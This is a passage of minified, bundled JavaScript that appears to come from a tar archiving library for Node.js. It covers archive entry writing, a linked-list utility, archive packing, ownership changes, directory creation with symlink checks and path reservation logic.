Map,this.preservePaths=!!i.preservePaths,this.cwd=f(i.cwd||process.cwd()),this.strict=!!i.strict,this.noPax=!!i.noPax,this.noMtime=!!i.noMtime,this.mtime=i.mtime,this.prefix=i.prefix?f(i.prefix):void 0,this.onWriteEntry=i.onWriteEntry,typeof i.onwarn=="function"&&this.on("warn",i.onwarn);let r=!1;if(!this.preservePaths){let[o,h]=ce(this.path);o&&typeof h=="string"&&(this.path=h,r=o)}this.win32=!!i.win32||process.platform==="win32",this.win32&&(this.path=Qs(this.path.replaceAll(/\\/g,"/")),t=t.replaceAll(/\\/g,"/")),this.absolute=f(i.absolute||external_path_namespaceObject.resolve(this.cwd,t)),this.path===""&&(this.path="./"),r&&this.warn("TAR_ENTRY_INFO",`stripping ${r} from absolute path`,{entry:this,path:r+this.path});let n=this.statCache.get(this.absolute);n?this[si](n):this[ss]()}warn(t,e,i={}){return Dt(this,t,e,i)}emit(t,...e){return t==="error"&&(this.#t=!0),super.emit(t,...e)}[ss](){external_fs_namespaceObject.lstat(this.absolute,(t,e)=>{if(t)return this.emit("error",t);this[si](e)})}[si](t){this.statCache.set(this.absolute,t),this.stat=t,t.isFile()||(t.size=0),this.type=Gn(t),this.emit("stat",t),this[index_min_tr]()}[index_min_tr](){switch(this.type){case"File":return this[er]();case"Directory":return this[ir]();case"SymbolicLink":return this[is]();default:return this.end()}}[ri](t){return Ji(t,this.type==="Directory",this.portable)}[q](t){return rr(t,this.prefix)}[fe](){if(!this.stat)throw new Error("cannot write header before stat");this.type==="Directory"&&this.portable&&(this.noMtime=!0),this.onWriteEntry?.(this),this.header=new F({path:this[q](this.path),linkpath:this.type==="Link"&&this.linkpath!==void 0?this[q](this.linkpath):this.linkpath,mode:this[ri](this.stat.mode),uid:this.portable?void 0:this.stat.uid,gid:this.portable?void 0:this.stat.gid,size:this.stat.size,mtime:this.noMtime?void 0:this.mtime||this.stat.mtime,type:this.type==="Unsupported"?void 0:this.type,uname:this.portable?void 0:this.stat.uid===this.myuid?this.myuser:"",atime:this.portable?void 0:this.stat.atime,ctime:this.portable?void 0:this.stat.ctime}),this.header.encode()&&!this.noPax&&super.write(new ft({atime:this.portable?void 0:this.header.atime,ctime:this.portable?void 0:this.header.ctime,gid:this.portable?void 0:this.header.gid,mtime:this.noMtime?void 0:this.mtime||this.header.mtime,path:this[q](this.path),linkpath:this.type==="Link"&&this.linkpath!==void 0?this[q](this.linkpath):this.linkpath,size:this.header.size,uid:this.portable?void 0:this.header.uid,uname:this.portable?void 0:this.header.uname,dev:this.portable?void 0:this.stat.dev,ino:this.portable?void 0:this.stat.ino,nlink:this.portable?void 0:this.stat.nlink}).encode());let t=this.header?.block;if(!t)throw new Error("failed to encode header");super.write(t)}[ir](){if(!this.stat)throw new Error("cannot create directory entry without stat");this.path.slice(-1)!=="/"&&(this.path+="/"),this.stat.size=0,this[fe](),this.end()}[is](){external_fs_namespaceObject.readlink(this.absolute,(t,e)=>{if(t)return this.emit("error",t);this[ns](e)})}[ns](t){this.linkpath=f(t),this[fe](),this.end()}[sr](t){if(!this.stat)throw new Error("cannot create link entry without stat");this.type="Link",this.linkpath=f(external_path_namespaceObject.relative(this.cwd,t)),this.stat.size=0,this[fe](),this.end()}[er](){if(!this.stat)throw new Error("cannot create file entry without stat");if(this.stat.nlink>1){let t=`${this.stat.dev}:${this.stat.ino}`,e=this.linkCache.get(t);if(e?.indexOf(this.cwd)===0)return this[sr](e);this.linkCache.set(t,this.absolute)}if(this[fe](),this.stat.size===0)return this.end();this[os]()}[os](){external_fs_namespaceObject.open(this.absolute,"r",(t,e)=>{if(t)return this.emit("error",t);this[hs](e)})}[hs](t){if(this.fd=t,this.#t)return this[pt]();if(!this.stat)throw new Error("should stat before calling onopenfile");this.blockLen=512*Math.ceil(this.stat.size/512),this.blockRemain=this.blockLen;let e=Math.min(this.blockLen,this.maxReadSize);this.buf=Buffer.allocUnsafe(e),this.offset=0,this.pos=0,this.remain=this.stat.size,this.length=this.buf.length,this[ii]()}[ii](){let{fd:t,buf:e,offset:i,length:r,pos:n}=this;if(t===void 0||e===void 0)throw new Error("cannot read file without first opening");external_fs_namespaceObject.read(t,e,i,r,n,(o,h)=>{if(o)return this[pt](()=>this.emit("error",o));this[rs](h)})}[pt](t=()=>{}){this.fd!==void 0&&external_fs_namespaceObject.close(this.fd,t)}[rs](t){if(t<=0&&this.remain>0){let r=Object.assign(new Error("encountered unexpected EOF"),{path:this.absolute,syscall:"read",code:"EOF"});return this[pt](()=>this.emit("error",r))}if(t>this.remain){let r=Object.assign(new Error("did not encounter expected EOF"),{path:this.absolute,syscall:"read",code:"EOF"});return this[pt](()=>this.emit("error",r))}if(!this.buf)throw new Error("should have created buffer prior to reading");if(t===this.remain)for(let r=t;r<this.length&&t<this.blockRemain;r++)this.buf[r+this.offset]=0,t++,this.remain++;let e=this.offset===0&&t===this.buf.length?this.buf:this.buf.subarray(this.offset,this.offset+t);this.write(e)?this[es]():this[as](()=>this[es]())}[as](t){this.once("drain",t)}write(t,e,i){if(typeof e=="function"&&(i=e,e=void 0),typeof t=="string"&&(t=Buffer.from(t,typeof e=="string"?e:"utf8")),this.blockRemain<t.length){let r=Object.assign(new Error("writing more data than expected"),{path:this.absolute});return this.emit("error",r)}return this.remain-=t.length,this.blockRemain-=t.length,this.pos+=t.length,this.offset+=t.length,super.write(t,null,i)}[es](){if(!this.remain)return this.blockRemain&&super.write(Buffer.alloc(this.blockRemain)),this[pt](t=>t?this.emit("error",t):this.end());if(!this.buf)throw new Error("buffer lost somehow in ONDRAIN");this.offset>=this.length&&(this.buf=Buffer.allocUnsafe(Math.min(this.blockRemain,this.buf.length)),this.offset=0),this.length=this.buf.length-this.offset,this[ii]()}},ni=class extends de{sync=!0;[ss](){this[si](external_fs_namespaceObject.lstatSync(this.absolute))}[is](){this[ns](external_fs_namespaceObject.readlinkSync(this.absolute))}[os](){this[hs](external_fs_namespaceObject.openSync(this.absolute,"r"))}[ii](){let t=!0;try{let{fd:e,buf:i,offset:r,length:n,pos:o}=this;if(e===void 0||i===void 0)throw new Error("fd and buf must be set in READ method");let h=external_fs_namespaceObject.readSync(e,i,r,n,o);this[rs](h),t=!1}finally{if(t)try{this[pt](()=>{})}catch{}}}[as](t){t()}[pt](t=()=>{}){this.fd!==void 0&&external_fs_namespaceObject.closeSync(this.fd),t()}},oi=class extends A{blockLen=0;blockRemain=0;buf=0;pos=0;remain=0;length=0;preservePaths;portable;strict;noPax;noMtime;readEntry;type;prefix;path;mode;uid;gid;uname;gname;header;mtime;atime;ctime;linkpath;size;onWriteEntry;warn(t,e,i={}){return Dt(this,t,e,i)}constructor(t,e={}){let i=se(e);super(),this.preservePaths=!!i.preservePaths,this.portable=!!i.portable,this.strict=!!i.strict,this.noPax=!!i.noPax,this.noMtime=!!i.noMtime,this.onWriteEntry=i.onWriteEntry,this.readEntry=t;let{type:r}=t;if(r==="Unsupported")throw new Error("writing entry that should be ignored");this.type=r,this.type==="Directory"&&this.portable&&(this.noMtime=!0),this.prefix=i.prefix,this.path=f(t.path),this.mode=t.mode!==void 0?this[ri](t.mode):void 0,this.uid=this.portable?void 0:t.uid,this.gid=this.portable?void 0:t.gid,this.uname=this.portable?void 0:t.uname,this.gname=this.portable?void 0:t.gname,this.size=t.size,this.mtime=this.noMtime?void 0:i.mtime||t.mtime,this.atime=this.portable?void 0:t.atime,this.ctime=this.portable?void 0:t.ctime,this.linkpath=t.linkpath!==void 0?f(t.linkpath):void 0,typeof i.onwarn=="function"&&this.on("warn",i.onwarn);let n=!1;if(!this.preservePaths){let[h,a]=ce(this.path);h&&typeof a=="string"&&(this.path=a,n=h)}this.remain=t.size,this.blockRemain=t.startBlockSize,this.onWriteEntry?.(this),this.header=new F({path:this[q](this.path),linkpath:this.type==="Link"&&this.linkpath!==void 0?this[q](this.linkpath):this.linkpath,mode:this.mode,uid:this.portable?void 0:this.uid,gid:this.portable?void 0:this.gid,size:this.size,mtime:this.noMtime?void 0:this.mtime,type:this.type,uname:this.portable?void 0:this.uname,atime:this.portable?void 0:this.atime,ctime:this.portable?void 0:this.ctime}),n&&this.warn("TAR_ENTRY_INFO",`stripping ${n} from absolute path`,{entry:this,path:n+this.path}),this.header.encode()&&!this.noPax&&super.write(new ft({atime:this.portable?void 0:this.atime,ctime:this.portable?void 0:this.ctime,gid:this.portable?void 0:this.gid,mtime:this.noMtime?void 0:this.mtime,path:this[q](this.path),linkpath:this.type==="Link"&&this.linkpath!==void 0?this[q](this.linkpath):this.linkpath,size:this.size,uid:this.portable?void 0:this.uid,uname:this.portable?void 0:this.uname,dev:this.portable?void 0:this.readEntry.dev,ino:this.portable?void 0:this.readEntry.ino,nlink:this.portable?void 0:this.readEntry.nlink}).encode());let o=this.header?.block;if(!o)throw new Error("failed to encode header");super.write(o),t.pipe(this)}[q](t){return rr(t,this.prefix)}[ri](t){return Ji(t,this.type==="Directory",this.portable)}write(t,e,i){typeof e=="function"&&(i=e,e=void 0),typeof t=="string"&&(t=Buffer.from(t,typeof e=="string"?e:"utf8"));let r=t.length;if(r>this.blockRemain)throw new Error("writing more to entry than is appropriate");return this.blockRemain-=r,super.write(t,i)}end(t,e,i){return this.blockRemain&&super.write(Buffer.alloc(this.blockRemain)),typeof t=="function"&&(i=t,e=void 0,t=void 0),typeof e=="function"&&(i=e,e=void 0),typeof t=="string"&&(t=Buffer.from(t,e??"utf8")),i&&this.once("finish",i),t?super.end(t,i):super.end(i),this}},Gn=s=>s.isFile()?"File":s.isDirectory()?"Directory":s.isSymbolicLink()?"SymbolicLink":"Unsupported";var hi=class s{tail;head;length=0;static create(t=[]){return new s(t)}constructor(t=[]){for(let e of t)this.push(e)}*[Symbol.iterator](){for(let t=this.head;t;t=t.next)yield t.value}removeNode(t){if(t.list!==this)throw new Error("removing node which does not belong to this list");let e=t.next,i=t.prev;return e&&(e.prev=i),i&&(i.next=e),t===this.head&&(this.head=e),t===this.tail&&(this.tail=i),this.length--,t.next=void 0,t.prev=void 0,t.list=void 0,e}unshiftNode(t){if(t===this.head)return;t.list&&t.list.removeNode(t);let e=this.head;t.list=this,t.next=e,e&&(e.prev=t),this.head=t,this.tail||(this.tail=t),this.length++}pushNode(t){if(t===this.tail)return;t.list&&t.list.removeNode(t);let e=this.tail;t.list=this,t.prev=e,e&&(e.next=t),this.tail=t,this.head||(this.head=t),this.length++}push(...t){for(let e=0,i=t.length;e<i;e++)Yn(this,t[e]);return this.length}unshift(...t){for(var e=0,i=t.length;e<i;e++)Kn(this,t[e]);return this.length}pop(){if(!this.tail)return;let t=this.tail.value,e=this.tail;return this.tail=this.tail.prev,this.tail?this.tail.next=void 0:this.head=void 0,e.list=void 0,this.length--,t}shift(){if(!this.head)return;let t=this.head.value,e=this.head;return this.head=this.head.next,this.head?this.head.prev=void 0:this.tail=void 0,e.list=void 0,this.length--,t}forEach(t,e){e=e||this;for(let i=this.head,r=0;i;r++)t.call(e,i.value,r,this),i=i.next}forEachReverse(t,e){e=e||this;for(let i=this.tail,r=this.length-1;i;r--)t.call(e,i.value,r,this),i=i.prev}get(t){let e=0,i=this.head;for(;i&&e<t;e++)i=i.next;if(e===t&&i)return i.value}getReverse(t){let e=0,i=this.tail;for(;i&&e<t;e++)i=i.prev;if(e===t&&i)return i.value}map(t,e){e=e||this;let i=new s;for(let r=this.head;r;)i.push(t.call(e,r.value,this)),r=r.next;return i}mapReverse(t,e){e=e||this;var i=new s;for(let r=this.tail;r;)i.push(t.call(e,r.value,this)),r=r.prev;return i}reduce(t,e){let i,r=this.head;if(arguments.length>1)i=e;else if(this.head)r=this.head.next,i=this.head.value;else throw new TypeError("Reduce of empty list with no initial value");for(var n=0;r;n++)i=t(i,r.value,n),r=r.next;return i}reduceReverse(t,e){let i,r=this.tail;if(arguments.length>1)i=e;else if(this.tail)r=this.tail.prev,i=this.tail.value;else throw new TypeError("Reduce of empty list with no initial value");for(let n=this.length-1;r;n--)i=t(i,r.value,n),r=r.prev;return i}toArray(){let t=new Array(this.length);for(let e=0,i=this.head;i;e++)t[e]=i.value,i=i.next;return t}toArrayReverse(){let t=new Array(this.length);for(let e=0,i=this.tail;i;e++)t[e]=i.value,i=i.prev;return t}slice(t=0,e=this.length){e<0&&(e+=this.length),t<0&&(t+=this.length);let i=new s;if(e<t||e<0)return i;t<0&&(t=0),e>this.length&&(e=this.length);let r=this.head,n=0;for(n=0;r&&n<t;n++)r=r.next;for(;r&&n<e;n++,r=r.next)i.push(r.value);return i}sliceReverse(t=0,e=this.length){e<0&&(e+=this.length),t<0&&(t+=this.length);let i=new s;if(e<t||e<0)return i;t<0&&(t=0),e>this.length&&(e=this.length);let r=this.length,n=this.tail;for(;n&&r>e;r--)n=n.prev;for(;n&&r>t;r--,n=n.prev)i.push(n.value);return i}splice(t,e=0,...i){t>this.length&&(t=this.length-1),t<0&&(t=this.length+t);let r=this.head;for(let o=0;r&&o<t;o++)r=r.next;let n=[];for(let o=0;r&&o<e;o++)n.push(r.value),r=this.removeNode(r);r?r!==this.tail&&(r=r.prev):r=this.tail;for(let o of i)r=Zn(this,r,o);return n}reverse(){let t=this.head,e=this.tail;for(let i=t;i;i=i.prev){let r=i.prev;i.prev=i.next,i.next=r}return this.head=e,this.tail=t,this}};function Zn(s,t,e){let i=t,r=t?t.next:s.head,n=new ue(e,i,r,s);return n.next===void 0&&(s.tail=n),n.prev===void 0&&(s.head=n),s.length++,n}function Yn(s,t){s.tail=new ue(t,s.tail,void 0,s),s.head||(s.head=s.tail),s.length++}function Kn(s,t){s.head=new ue(t,void 0,s.head,s),s.tail||(s.tail=s.head),s.length++}var ue=class{list;next;prev;value;constructor(t,e,i,r){this.list=r,this.value=t,e?(e.next=this,this.prev=e):this.prev=void 0,i?(i.prev=this,this.next=i):this.next=void 0}};var pi=class{path;absolute;entry;stat;readdir;pending=!1;pendingLink=!1;ignore=!1;piped=!1;constructor(t,e){this.path=t||"./",this.absolute=e}},nr=Buffer.alloc(1024),li=Symbol("onStat"),me=Symbol("ended"),W=Symbol("queue"),pe=Symbol("pendingLinks"),Et=Symbol("current"),Ft=Symbol("process"),Ee=Symbol("processing"),ai=Symbol("processJob"),G=Symbol("jobs"),ls=Symbol("jobDone"),ci=Symbol("addFSEntry"),or=Symbol("addTarEntry"),ds=Symbol("stat"),us=Symbol("readdir"),fi=Symbol("onreaddir"),di=Symbol("pipe"),hr=Symbol("entry"),cs=Symbol("entryOpt"),ui=Symbol("writeEntryClass"),lr=Symbol("write"),index_min_fs=Symbol("ondrain"),wt=class extends A{sync=!1;opt;cwd;maxReadSize;preservePaths;strict;noPax;prefix;linkCache;statCache;file;portable;zip;readdirCache;noDirRecurse;follow;noMtime;mtime;filter;jobs;[ui];onWriteEntry;[W];[pe]=new Map;[G]=0;[Ee]=!1;[me]=!1;constructor(t={}){if(super(),this.opt=t,this.file=t.file||"",this.cwd=t.cwd||process.cwd(),this.maxReadSize=t.maxReadSize,this.preservePaths=!!t.preservePaths,this.strict=!!t.strict,this.noPax=!!t.noPax,this.prefix=f(t.prefix||""),this.linkCache=t.linkCache||new Map,this.statCache=t.statCache||new Map,this.readdirCache=t.readdirCache||new Map,this.onWriteEntry=t.onWriteEntry,this[ui]=de,typeof t.onwarn=="function"&&this.on("warn",t.onwarn),this.portable=!!t.portable,t.gzip||t.brotli||t.zstd){if((t.gzip?1:0)+(t.brotli?1:0)+(t.zstd?1:0)>1)throw new TypeError("gzip, brotli, zstd are mutually exclusive");if(t.gzip&&(typeof t.gzip!="object"&&(t.gzip={}),this.portable&&(t.gzip.portable=!0),this.zip=new ze(t.gzip)),t.brotli&&(typeof t.brotli!="object"&&(t.brotli={}),this.zip=new We(t.brotli)),t.zstd&&(typeof t.zstd!="object"&&(t.zstd={}),this.zip=new Ye(t.zstd)),!this.zip)throw new Error("impossible");let e=this.zip;e.on("data",i=>super.write(i)),e.on("end",()=>super.end()),e.on("drain",()=>this[index_min_fs]()),this.on("resume",()=>e.resume())}else this.on("drain",this[index_min_fs]);this.noDirRecurse=!!t.noDirRecurse,this.follow=!!t.follow,this.noMtime=!!t.noMtime,t.mtime&&(this.mtime=t.mtime),this.filter=typeof t.filter=="function"?t.filter:()=>!0,this[W]=new hi,this[G]=0,this.jobs=Number(t.jobs)||4,this[Ee]=!1,this[me]=!1}[lr](t){return super.write(t)}add(t){return this.write(t),this}end(t,e,i){return typeof t=="function"&&(i=t,t=void 0),typeof e=="function"&&(i=e,e=void 0),t&&this.add(t),this[me]=!0,this[Ft](),i&&i(),this}write(t){if(this[me])throw new Error("write after end");return typeof t=="string"?this[ci](t):this[or](t),this.flowing}[or](t){let e=f(external_path_namespaceObject.resolve(this.cwd,t.path));if(!this.filter(t.path,t))t.resume();else{let i=new pi(t.path,e);i.entry=new oi(t,this[cs](i)),i.entry.on("end",()=>this[ls](i)),this[G]+=1,this[W].push(i)}this[Ft]()}[ci](t){let e=f(external_path_namespaceObject.resolve(this.cwd,t));this[W].push(new pi(t,e)),this[Ft]()}[ds](t){t.pending=!0,this[G]+=1;let e=this.follow?"stat":"lstat";external_fs_namespaceObject[e](t.absolute,(i,r)=>{t.pending=!1,this[G]-=1,i?this.emit("error",i):this[li](t,r)})}[li](t,e){if(this.statCache.set(t.absolute,e),t.stat=e,!this.filter(t.path,e))t.ignore=!0;else if(e.isFile()&&e.nlink>1&&!this.linkCache.get(`${e.dev}:${e.ino}`)&&!this.sync)if(t===this[Et])this[ai](t);else{let i=`${e.dev}:${e.ino}`,r=this[pe].get(i);r?r.push(t):this[pe].set(i,[t]),t.pendingLink=!0,t.pending=!0}this[Ft]()}[us](t){t.pending=!0,this[G]+=1,external_fs_namespaceObject.readdir(t.absolute,(e,i)=>{if(t.pending=!1,this[G]-=1,e)return this.emit("error",e);this[fi](t,i)})}[fi](t,e){this.readdirCache.set(t.absolute,e),t.readdir=e,this[Ft]()}[Ft](){if(!this[Ee]){this[Ee]=!0;for(let t=this[W].head;t&&this[G]<this.jobs;t=t.next)if(this[ai](t.value),t.value.ignore){let e=t.next;this[W].removeNode(t),t.next=e}this[Ee]=!1,this[me]&&this[W].length===0&&this[G]===0&&(this.zip?this.zip.end(nr):(super.write(nr),super.end()))}}get[Et](){return this[W]&&this[W].head&&this[W].head.value}[ls](t){this[W].shift(),this[G]-=1;let{stat:e}=t;if(e&&e.isFile()&&e.nlink>1){let i=`${e.dev}:${e.ino}`,r=this[pe].get(i);if(r){this[pe].delete(i);for(let n of r)n.pending=!1,this[ai](n)}}this[Ft]()}[ai](t){if(t.pending&&t.pendingLink&&t===this[Et]&&(t.pending=!1,t.pendingLink=!1),!t.pending){if(t.entry){t===this[Et]&&!t.piped&&this[di](t);return}if(!t.stat){let e=this.statCache.get(t.absolute);e?this[li](t,e):this[ds](t)}if(t.stat&&!t.ignore){if(!this.noDirRecurse&&t.stat.isDirectory()&&!t.readdir){let e=this.readdirCache.get(t.absolute);if(e?this[fi](t,e):this[us](t),!t.readdir)return}if(t.entry=this[hr](t),!t.entry){t.ignore=!0;return}t===this[Et]&&!t.piped&&this[di](t)}}}[cs](t){return{onwarn:(e,i,r)=>this.warn(e,i,r),noPax:this.noPax,cwd:this.cwd,absolute:t.absolute,preservePaths:this.preservePaths,maxReadSize:this.maxReadSize,strict:this.strict,portable:this.portable,linkCache:this.linkCache,statCache:this.statCache,noMtime:this.noMtime,mtime:this.mtime,prefix:this.prefix,onWriteEntry:this.onWriteEntry}}[hr](t){this[G]+=1;try{return new this[ui](t.path,this[cs](t)).on("end",()=>this[ls](t)).on("error",i=>this.emit("error",i))}catch(e){this.emit("error",e)}}[index_min_fs](){this[Et]&&this[Et].entry&&this[Et].entry.resume()}[di](t){t.piped=!0,t.readdir&&t.readdir.forEach(r=>{let n=t.path,o=n==="./"?"":n.replace(/\/*$/,"/");this[ci](o+r)});let e=t.entry,i=this.zip;if(!e)throw new Error("cannot pipe without source");i?e.on("data",r=>{i.write(r)||e.pause()}):e.on("data",r=>{super.write(r)||e.pause()})}pause(){return this.zip&&this.zip.pause(),super.pause()}warn(t,e,i={}){Dt(this,t,e,i)}},kt=class extends wt{sync=!0;constructor(t){super(t),this[ui]=ni}pause(){}resume(){}[ds](t){let e=this.follow?"statSync":"lstatSync";this[li](t,external_fs_namespaceObject[e](t.absolute))}[us](t){this[fi](t,external_fs_namespaceObject.readdirSync(t.absolute))}[di](t){let e=t.entry,i=this.zip;if(t.readdir&&t.readdir.forEach(r=>{let n=t.path,o=n==="./"?"":n.replace(/\/*$/,"/");this[ci](o+r)}),!e)throw new Error("Cannot pipe without source");i?e.on("data",r=>{i.write(r)}):e.on("data",r=>{super[lr](r)})}};var Vn=(s,t)=>{let e=new kt(s),i=new Wt(s.file,{mode:s.mode||438});e.pipe(i),fr(e,t)},$n=(s,t)=>{let e=new wt(s),i=new et(s.file,{mode:s.mode||438});e.pipe(i);let r=new Promise((n,o)=>{i.on("error",o),i.on("close",n),e.on("error",o)});return dr(e,t).catch(n=>e.emit("error",n)),r},fr=(s,t)=>{t.forEach(e=>{e.charAt(0)==="@"?Ct({file:external_node_path_namespaceObject.resolve(s.cwd,e.slice(1)),sync:!0,noResume:!0,onReadEntry:i=>s.add(i)}):s.add(e)}),s.end()},dr=async(s,t)=>{for(let e of t)e.charAt(0)==="@"?await Ct({file:external_node_path_namespaceObject.resolve(String(s.cwd),e.slice(1)),noResume:!0,onReadEntry:i=>{s.add(i)}}):s.add(e);s.end()},Xn=(s,t)=>{let e=new kt(s);return fr(e,t),e},qn=(s,t)=>{let e=new wt(s);return dr(e,t).catch(i=>e.emit("error",i)),e},Qn=K(Vn,$n,Xn,qn,(s,t)=>{if(!t?.length)throw new TypeError("no paths specified to add to archive")});var Jn=process.env.__FAKE_PLATFORM__||process.platform,Er=Jn==="win32",{O_CREAT:wr,O_NOFOLLOW:ur,O_TRUNC:Sr,O_WRONLY:yr}=external_fs_namespaceObject.constants,Rr=Number(process.env.__FAKE_FS_O_FILENAME__)||external_fs_namespaceObject.constants.UV_FS_O_FILEMAP||0,jn=Er&&!!Rr,to=512*1024,eo=Rr|Sr|wr|yr,mr=!Er&&typeof ur=="number"?ur|Sr|wr|yr:null,ms=mr!==null?()=>mr:jn?s=>s<to?eo:"w":()=>"w";var ps=(s,t,e)=>{try{return external_node_fs_namespaceObject.lchownSync(s,t,e)}catch(i){if(i?.code!=="ENOENT")throw i}},Ei=(s,t,e,i)=>{external_node_fs_namespaceObject.lchown(s,t,e,r=>{i(r&&r?.code!=="ENOENT"?r:null)})},io=(s,t,e,i,r)=>{if(t.isDirectory())Es(external_node_path_namespaceObject.resolve(s,t.name),e,i,n=>{if(n)return r(n);let o=external_node_path_namespaceObject.resolve(s,t.name);Ei(o,e,i,r)});else{let n=external_node_path_namespaceObject.resolve(s,t.name);Ei(n,e,i,r)}},Es=(s,t,e,i)=>{external_node_fs_namespaceObject.readdir(s,{withFileTypes:!0},(r,n)=>{if(r){if(r.code==="ENOENT")return i();if(r.code!=="ENOTDIR"&&r.code!=="ENOTSUP")return i(r)}if(r||!n.length)return Ei(s,t,e,i);let o=n.length,h=null,a=l=>{if(!h){if(l)return i(h=l);if(--o===0)return Ei(s,t,e,i)}};for(let l of n)io(s,l,t,e,a)})},so=(s,t,e,i)=>{t.isDirectory()&&ws(external_node_path_namespaceObject.resolve(s,t.name),e,i),ps(external_node_path_namespaceObject.resolve(s,t.name),e,i)},ws=(s,t,e)=>{let i;try{i=external_node_fs_namespaceObject.readdirSync(s,{withFileTypes:!0})}catch(r){let n=r;if(n?.code==="ENOENT")return;if(n?.code==="ENOTDIR"||n?.code==="ENOTSUP")return ps(s,t,e);throw n}for(let r of i)so(s,r,t,e);return ps(s,t,e)};var Se=class extends Error{path;code;syscall="chdir";constructor(t,e){super(`${e}: Cannot cd into '${t}'`),this.path=t,this.code=e}get name(){return"CwdError"}};var St=class extends Error{path;symlink;syscall="symlink";code="TAR_SYMLINK_ERROR";constructor(t,e){super("TAR_SYMLINK_ERROR: Cannot extract through symbolic link"),this.symlink=t,this.path=e}get name(){return"SymlinkError"}};var no=(s,t)=>{external_node_fs_namespaceObject.stat(s,(e,i)=>{(e||!i.isDirectory())&&(e=new Se(s,e?.code||"ENOTDIR")),t(e)})},gr=(s,t,e)=>{s=f(s);let i=t.umask??18,r=t.mode|448,n=(r&i)!==0,o=t.uid,h=t.gid,a=typeof o=="number"&&typeof h=="number"&&(o!==t.processUid||h!==t.processGid),l=t.preserve,c=t.unlink,d=f(t.cwd),y=(E,x)=>{E?e(E):x&&a?Es(x,o,h,Le=>y(Le)):n?external_node_fs_namespaceObject.chmod(s,r,e):e()};if(s===d)return no(s,y);if(l)return promises_namespaceObject.mkdir(s,{mode:r,recursive:!0}).then(E=>y(null,E??void 0),y);let D=f(external_node_path_namespaceObject.relative(d,s)).split("/");Ss(d,D,r,c,d,void 0,y)},Ss=(s,t,e,i,r,n,o)=>{if(t.length===0)return o(null,n);let h=t.shift(),a=f(external_node_path_namespaceObject.resolve(s+"/"+h));external_node_fs_namespaceObject.mkdir(a,e,br(a,t,e,i,r,n,o))},br=(s,t,e,i,r,n,o)=>h=>{h?external_node_fs_namespaceObject.lstat(s,(a,l)=>{if(a)a.path=a.path&&f(a.path),o(a);else if(l.isDirectory())Ss(s,t,e,i,r,n,o);else if(i)external_node_fs_namespaceObject.unlink(s,c=>{if(c)return o(c);external_node_fs_namespaceObject.mkdir(s,e,br(s,t,e,i,r,n,o))});else{if(l.isSymbolicLink())return o(new St(s,s+"/"+t.join("/")));o(h)}}):(n=n||s,Ss(s,t,e,i,r,n,o))},oo=s=>{let t=!1,e;try{t=external_node_fs_namespaceObject.statSync(s).isDirectory()}catch(i){e=i?.code}finally{if(!t)throw new Se(s,e??"ENOTDIR")}},_r=(s,t)=>{s=f(s);let e=t.umask??18,i=t.mode|448,r=(i&e)!==0,n=t.uid,o=t.gid,h=typeof n=="number"&&typeof o=="number"&&(n!==t.processUid||o!==t.processGid),a=t.preserve,l=t.unlink,c=f(t.cwd),d=E=>{E&&h&&ws(E,n,o),r&&external_node_fs_namespaceObject.chmodSync(s,i)};if(s===c)return oo(c),d();if(a)return d(external_node_fs_namespaceObject.mkdirSync(s,{mode:i,recursive:!0})??void 0);let T=f(external_node_path_namespaceObject.relative(c,s)).split("/"),D;for(let E=T.shift(),x=c;E&&(x+="/"+E);E=T.shift()){x=f(external_node_path_namespaceObject.resolve(x));try{external_node_fs_namespaceObject.mkdirSync(x,i),D=D||x}catch{let Le=external_node_fs_namespaceObject.lstatSync(x);if(Le.isDirectory())continue;if(l){external_node_fs_namespaceObject.unlinkSync(x),external_node_fs_namespaceObject.mkdirSync(x,i),D=D||x;continue}else if(Le.isSymbolicLink())return new St(x,x+"/"+T.join("/"))}}return d(D)};var ys=Object.create(null),Or=1e4,Vt=new Set,Tr=s=>{Vt.has(s)?Vt.delete(s):ys[s]=s.normalize("NFD").toLocaleLowerCase("en").toLocaleUpperCase("en"),Vt.add(s);let t=ys[s],e=Vt.size-Or;if(e>Or/10){for(let i of Vt)if(Vt.delete(i),delete ys[i],--e<=0)break}return t};var ho=process.env.TESTING_TAR_FAKE_PLATFORM||process.platform,ao=ho==="win32",lo=s=>s.split("/").slice(0,-1).reduce((e,i)=>{let r=e.at(-1);return r!==void 0&&(i=(0,external_node_path_namespaceObject.join)(r,i)),e.push(i||"/"),e},[]),yi=class{#t=new Map;#i=new Map;#s=new Set;reserve(t,e){t=ao?["win32 parallelization disabled"]:t.map(r=>mt((0,external_node_path_namespaceObject.join)(Tr(r))));let i=new Set(t.map(r=>lo(r)).reduce((r,n)=>r.concat(n)));this.#i.set(e,{dirs:i,paths:t});for(let r of t){let n=this.#t.get(r);n?n.push(e):this.#t.set(r,[e])}for(let r of i){let n=this.#t.get(r);if(!n)this.#t.set(r,[new Set([e])]);else{let o=n.at(-1);o instanceof Set?o.add(e):n.push(new Set([e]))}}return this.#r(e)}#n(t){let e=this.#i.get(t);if(!e)throw new Error("function does not have any path reservations");return{paths:e.paths.map(i=>this.#t.get(i)),dirs:[...e.dirs].map(i=>this.#t.get(i))}}check(t){let{paths:e,dirs:i}=this.#n(t);return e.every(r=>r&&r[0]===t)&&i.every(r=>r&&r[0]instanceof Set&&r[0].has(t))}#r(t){return this.#s.has(t)||!this.check(t)?!1:(this.#s.add(t),t(()=>this.#e(t)),!0)}#e(t){if(!this.#s.has(t))return!1;let e=this.#i.get(t);if(!e)throw new Error("invalid reservation");let{paths:i,dirs:r}=e,n=new Set;for(let o of i){let h=this.#t.get(o);if(!h||h?.[0]!==t)continue;let a=h[1];if(!a){this.#t.delete(o);continue}if(h.shift(),typeof a=="function")n.add(a);else for(let l of a)n.add(l)}for(let o of r){let h=this.#t.get(o),a=h?.[0];if(!(!h||!(a instanceof Set)))if(a.size===1&&h.length===1){this.#t.delete(o);continue}else if(a.size===1){h.shift();let l=h[0];typeof l=="function"&&n.add(l)}else a.delete(t)}return this.#s.delete(t),n.forEach(o=>this.#r(o)),!0}};var Lr=()=>process.umask();var 